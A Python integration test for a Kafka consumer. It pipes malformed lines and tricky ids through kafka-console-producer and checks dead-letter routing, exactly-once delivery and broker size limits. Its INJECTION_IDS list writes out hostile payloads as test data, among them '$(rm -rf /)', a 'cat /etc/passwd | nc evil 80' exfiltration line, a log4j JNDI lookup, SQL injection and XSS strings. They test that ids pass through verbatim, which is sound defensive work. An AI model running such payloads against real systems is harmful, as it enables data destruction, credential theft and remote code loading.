"""Kafka's own console producer feeds the interactions topic bad input; the real consumer sorts it out.

A foreign producer is the realistic source of bad input, so this test does not use our producer: it
pipes lines into ``kafka-console-producer`` (``KafkaBroker.console_producer_cmd``) while the project's
consumer (:class:`StreamConsumer` over :class:`KafkaSource`, dead letters to Kafka) is polling, then
asserts that

* every invalid message is in the dead-letter topic, once, with the reason the schema gives it (the
  count per reason and the exact original bytes of each),
* every valid event came through exactly once and in order (one partition), ids byte for byte,
* the consumer stayed up: it read every record the broker accepted, the last valid event included,
* a message above the broker's ``message.max.bytes`` is refused, and the producer says so
  (``RecordTooLargeException`` on its stderr) and goes on with the lines after it. The producer only
  says so if it is still running when the broker answers: a refusal that arrives after end of input,
  while the JVM shuts down, is not logged at all (log4j is already stopping), so stdin stays open until
  the refusal is seen.

Ids that look like SQL, shell, path-traversal, CRLF-injection, HTML or log4j strings are *valid*: the
schema says an id is any string of 1..256 characters, and ids are opaque keys here, never put into SQL,
a shell, a path, a log format or HTML (the HTTP API JSON-encodes them). So they must come through
verbatim, not be rejected or "sanitised".

How the console producer turns stdin into messages (``LineMessageReader``, Kafka 4.4): it reads stdin as
UTF-8 with a ``BufferedReader``, so (1) ``readLine`` ends a message at ``\\n``, ``\\r`` *or* ``\\r\\n``,
and (2) bytes that are not valid UTF-8 become U+FFFD before the line is encoded back to UTF-8. Binary
junk therefore cannot be sent verbatim: the junk lines below avoid ``\\n`` and ``\\r`` except where a
line is meant to be split, and what the consumer receives is the UTF-8-repaired line, which the test
computes the same way (``bytes.decode("utf-8", "replace")``; the same repair as Java's for the junk used).
"""

from __future__ import annotations

import subprocess
import time
import uuid
from collections import Counter
from pathlib import Path
from typing import Any

import orjson
import pytest

from sitn.broker import KafkaBroker
from stream.consumer import EventBatch, StreamConsumer
from stream.dead_letter import DeadLetter, decode_dead_letter, open_dead_letters
from stream.events import MAX_EVENT_BYTES, MAX_ID_CHARS, InteractionEvent, encode_event
from stream.kafka_source import KafkaSource
from stream.settings import StreamSettings
from stream.source_factory import open_source
from stream.topics import ensure_topics

pytestmark = [pytest.mark.kafka, pytest.mark.slow, pytest.mark.timeout(300)]

DOMAINS = ("movie", "book")
BROKER_MAX_MESSAGE_BYTES = 1_048_588  # Kafka's default message.max.bytes; tests/fixtures/kafka.py keeps it
GOOD = {
    "schema_version": 1,
    "event_id": "e",
    "user_id": "u",
    "item_id": "i",
    "domain": "book",
    "timestamp": 1_400_000_000,
}

INJECTION_IDS = [
    "1'; DROP TABLE users; --",
    '" OR 1=1 --',
    "$(rm -rf /)",
    "`id`; cat /etc/passwd | nc evil 80",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\config",
    "user\r\nSet-Cookie: admin=1",  # JSON-escaped on the wire, so still one line; CR LF in the id
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "${jndi:ldap://evil/a}",
    "%s%s%n{0}{user_id}",
    "null",
    "\x00",
]
UNICODE_IDS = [
    "用户😀",
    "e\u0301",  # NFD é: a different id from NFC "é"
    "é",
    "\u202eevil\u202c",  # right-to-left override
    "a\u200bb",  # zero-width space
    "\U0010fffd" * MAX_ID_CHARS,  # the longest id, 4 bytes a character
]


def _json(**changes: Any) -> bytes:
    return orjson.dumps({k: v for k, v in {**GOOD, **changes}.items() if v is not ...})


# (line as written to stdin, reason). A line never holds \n; \r only in the "split" case.
INVALID: list[tuple[bytes, str]] = [
    (b"{not json", "bad_json"),
    (b"", "bad_json"),  # an empty line is an empty message
    (b"\x00\x01\x02\x1b[2J\x7f", "bad_json"),  # control characters, an ANSI escape
    (b"\xff\xfe\x80junk\xc3(\xf0\x28\x8c\x28", "bad_json"),  # invalid UTF-8: arrives as U+FFFD
    (b"PK\x03\x04\x14\x00\x00\x00\x08\x00", "bad_json"),  # the start of a zip file
    (_json(event_id=...), "missing_field"),
    (_json(timestamp=...), "missing_field"),
    (_json(user_id=7), "wrong_type"),
    (_json(item_id=None), "wrong_type"),
    (_json(timestamp="2014"), "wrong_type"),
    (_json(timestamp=1.4e9), "wrong_type"),
    (_json(event_type=3), "wrong_type"),
    (b"[1, 2]", "wrong_type"),
    (_json(domain="music"), "unknown_domain"),
    (_json(domain="Book"), "unknown_domain"),
    (_json(timestamp=5), "bad_timestamp"),
    (_json(schema_version=2), "bad_schema_version"),
    (_json(user_id=""), "bad_value"),
    (_json(user_id="x" * (MAX_ID_CHARS + 1)), "bad_value"),
    (b'{"event_id": "\\ud800"}', "bad_json"),  # an escaped lone surrogate
    (_json(padding="p" * 10 * MAX_EVENT_BYTES), "oversize"),  # 40 KiB: far below the broker's limit
]
SPLIT_LINE = b"left half\rright half"  # readLine ends a line at a lone \r too: two messages
TOO_LARGE = _json(padding="p" * (BROKER_MAX_MESSAGE_BYTES + 1000))  # the broker refuses it


def _valid_events() -> list[InteractionEvent]:
    ids = INJECTION_IDS + UNICODE_IDS + [f"plain{i}" for i in range(12)]
    return [
        InteractionEvent(
            f"ev{i}-{user_id[:8]}",
            user_id,
            f"item-{user_id}"[:MAX_ID_CHARS],
            DOMAINS[i % 2],
            1_400_000_000 + i,
            event_type="click" if i % 3 else None,
        )
        for i, user_id in enumerate(ids)
    ]


def _stdin_and_expected(
    events: list[InteractionEvent],
) -> tuple[bytes, list[tuple[bytes, str]]]:
    """Valid and invalid lines interleaved; the expected dead letters (repaired bytes, reason) in order."""
    invalid = [*INVALID, (b"left half", "bad_json"), (b"right half", "bad_json")]
    lines: list[bytes] = []
    expected: list[tuple[bytes, str]] = []
    bad = iter(INVALID)
    for i, event in enumerate(events):
        lines.append(encode_event(event))
        line, reason = next(bad, (None, ""))
        if line is not None:
            lines.append(line)
            expected.append((line.decode("utf-8", "replace").encode(), reason))
        if i == 5:
            lines.append(TOO_LARGE)
        if i == 9:
            lines.append(SPLIT_LINE)
            expected += [(b"left half", "bad_json"), (b"right half", "bad_json")]
    assert next(bad, None) is None, "more invalid lines than valid events to put them between"
    assert len(expected) == len(invalid)
    for line in lines:
        assert b"\n" not in line and (b"\r" not in line or line == SPLIT_LINE)
    return b"\n".join(lines) + b"\n", expected


def _consume_until(consumer: StreamConsumer, records: int, producer: subprocess.Popen[bytes],
                   timeout_s: float) -> list[EventBatch]:  # fmt: skip
    batches: list[EventBatch] = []
    deadline_s = time.monotonic() + timeout_s
    while consumer.stats.records_in < records:
        assert time.monotonic() < deadline_s, (
            f"consumer read {consumer.stats.records_in} of {records} records within {timeout_s} s; "
            f"producer exit code {producer.poll()}"
        )
        batches.append(consumer.poll(timeout_s=0.5))
    return batches


def _wait_for_text(path: Path, text: str, timeout_s: float) -> None:
    deadline_s = time.monotonic() + timeout_s
    while text not in path.read_text(errors="replace"):
        assert time.monotonic() < deadline_s, (
            f"{text!r} not in {path} within {timeout_s} s: {path.read_text()[-2000:]}"
        )
        time.sleep(0.05)


def _read_dead_letters(
    settings: StreamSettings, run: str, expected: int, timeout_s: float
) -> list[DeadLetter]:
    inspector = open_source(settings, topic=settings.topic_dead_letters)
    letters: list[DeadLetter] = []
    deadline_s = time.monotonic() + timeout_s
    try:
        while len(letters) < expected:
            assert time.monotonic() < deadline_s, (
                f"{len(letters)} of {expected} dead letters within {timeout_s} s"
            )
            for batch in inspector.next_batch(timeout_s=0.5):
                letters += [decode_dead_letter(v) for v in batch.values if v is not None]
        extra = [value for batch in inspector.next_batch(timeout_s=1.0) for value in batch.values]
        assert extra == [], f"{len(extra)} more dead letters than bad messages"
    finally:
        inspector.close()
    return letters


def test_console_producer_junk_goes_to_dead_letters_and_valid_events_through_once(
    kafka_broker: KafkaBroker, tmp_path: Path
) -> None:
    run = uuid.uuid4().hex[:8]
    settings = StreamSettings(
        kafka_bootstrap_servers=kafka_broker.bootstrap_servers,
        topic_interactions=f"cp-it-{run}",
        topic_dead_letters=f"cp-dlq-{run}",
        topic_embedding_updates=f"cp-up-{run}",
        consumer_group=f"cp-{run}",
        partitions=1,  # one partition: the console producer's lines keep their order
        batch_size=16,  # many small polls: the consumer works while the junk is still arriving
    )
    ensure_topics(settings)
    events = _valid_events()
    stdin, expected_letters = _stdin_and_expected(events)
    records = len(events) + len(expected_letters)  # every line but TOO_LARGE becomes one record

    consumer = StreamConsumer(
        KafkaSource(settings, settings.topic_interactions, {0}),
        open_dead_letters(settings),
        DOMAINS,
    )
    # max.request.size above the huge message, so that the *broker's* message.max.bytes refuses it (the
    # client's own default limit would refuse it before it is sent).
    command = [*kafka_broker.console_producer_cmd(settings.topic_interactions),
               "--producer-property", f"max.request.size={4 * BROKER_MAX_MESSAGE_BYTES}"]  # fmt: skip
    stderr_path = tmp_path / "console-producer.stderr"  # a file, not a pipe: nothing can block on it
    with stderr_path.open("wb") as stderr_file:
        producer = subprocess.Popen(
            command, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=stderr_file
        )
    try:
        assert producer.stdin is not None
        producer.stdin.write(stdin)  # the producer reads as it sends; the pipe drains
        producer.stdin.flush()
        batches = _consume_until(consumer, records, producer, timeout_s=120)
        positions = consumer.positions()
        # stdin stays open until the refusal is logged: at end of input the producer's JVM shuts down,
        # and a send callback that fires during the shutdown can no longer log (log4j is stopping).
        _wait_for_text(stderr_path, "RecordTooLargeException", timeout_s=60)
        producer.stdin.close()  # end of input: the producer flushes and exits
        producer.wait(timeout=60)
    finally:
        if producer.poll() is None:
            producer.kill()
        consumer.close()
    stderr = stderr_path.read_text(errors="replace")

    # The broker refused the message above its limit and the producer said so (and went on).
    assert "RecordTooLargeException" in stderr, stderr[-3000:]
    assert f"value: {len(TOO_LARGE)} bytes" in stderr, stderr[-3000:]
    assert producer.returncode == 0, stderr[-3000:]

    # Every valid event exactly once, in order, ids byte for byte.
    examples = [e for batch in batches for e in batch.events]
    assert [(ex.event_id, ex.user_id, ex.item_id, ex.domain, ex.timestamp) for ex in examples] == [
        (e.event_id, e.user_id, e.item_id, e.domain, e.timestamp) for e in events
    ]
    # The consumer read everything the broker accepted, up to the end.
    assert consumer.stats.records_in == records
    assert positions == {0: records}

    # Every invalid message is in the dead-letter topic once, with its reason and its bytes as received.
    letters = _read_dead_letters(settings, run, len(expected_letters), timeout_s=60)
    assert [(letter.original, letter.reason) for letter in letters] == expected_letters
    assert all(letter.detail for letter in letters)
    assert all(letter.source_topic == settings.topic_interactions for letter in letters)
    assert len({letter.source_offset for letter in letters}) == len(letters)
    expected_counts = Counter(reason for _, reason in expected_letters)
    assert consumer.stats.dead_letters_by_reason == expected_counts
    assert expected_counts == {
        "bad_json": 8,
        "missing_field": 2,
        "wrong_type": 6,
        "unknown_domain": 2,
        "bad_timestamp": 1,
        "bad_schema_version": 1,
        "bad_value": 2,
        "oversize": 1,
    }
    # The junk arrived repaired, as the module docstring explains: invalid UTF-8 became U+FFFD.
    assert "\ufffd\ufffd\ufffdjunk\ufffd(\ufffd(\ufffd(".encode() in {letter.original for letter in letters}
